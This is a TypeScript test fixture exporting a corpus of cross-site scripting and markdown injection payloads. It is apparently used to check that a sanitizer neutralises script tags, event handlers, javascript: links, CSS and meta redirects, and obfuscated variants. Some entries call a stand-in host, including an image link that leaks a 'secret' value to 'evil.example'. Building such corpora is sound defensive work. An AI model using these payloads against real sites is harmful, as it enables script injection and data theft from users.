/** Where every attempt would leave its mark, or call. */
const MARK = 'window.__pwned=1';
const AWAY = 'https://evil.example';

/** Texts that become script, or a call to elsewhere, where they are taken for markup. */
export const XSS_CORPUS: readonly string[] = [
  `<script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `<svg/onload=${MARK}>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<a href="javascript:${MARK}" autofocus onfocus="${MARK}">press</a>`,
  `"><input autofocus onfocus=${MARK}>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<math><mi xlink:href="data:x,<script>${MARK}</script>">`,
  `<style>@import '${AWAY}/s.css';*{background:url(${AWAY}/b.png)}</style>`,
  `<link rel=stylesheet href=${AWAY}/l.css><base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<object data="${AWAY}/o"></object><embed src="${AWAY}/e">`,
  `[press](javascript:${MARK})`,
  `[press](JaVaScRiPt:${MARK} "title")`,
  `[press](\u0001javascript:${MARK})`,
  `[press](java&#x73;cript:${MARK})`,
  `[press](data:text/html,<script>${MARK}</script>)`,
  `[press](vbscript:${MARK})`,
  `[a](https://shop.example" onmouseover="${MARK})`,
  `![x](${AWAY}/leak.png?secret)`,
  `![x](x"onerror="${MARK})`,
  `[![x](${AWAY}/in-link.png)](https://shop.example)`,
  `<javascript:${MARK}>`,
  `<${AWAY}/autolink onclick=${MARK}>`,
  `\`\`\`html\n<script>${MARK}</script>\n\`\`\``,
  `| a |\n|---|\n| <img src=${AWAY}/t.png onerror=${MARK}> |`,
  `[ref]: javascript:${MARK}\n\n[press][ref]`,
  `**<b onmouseover=${MARK}>bold</b>**`,
  `\${${MARK}} {{constructor.constructor('${MARK}')()}}`,
  `--></textarea></title></style><script>${MARK}</script>`,
  `\u202e<script>${MARK}</script>`,
];
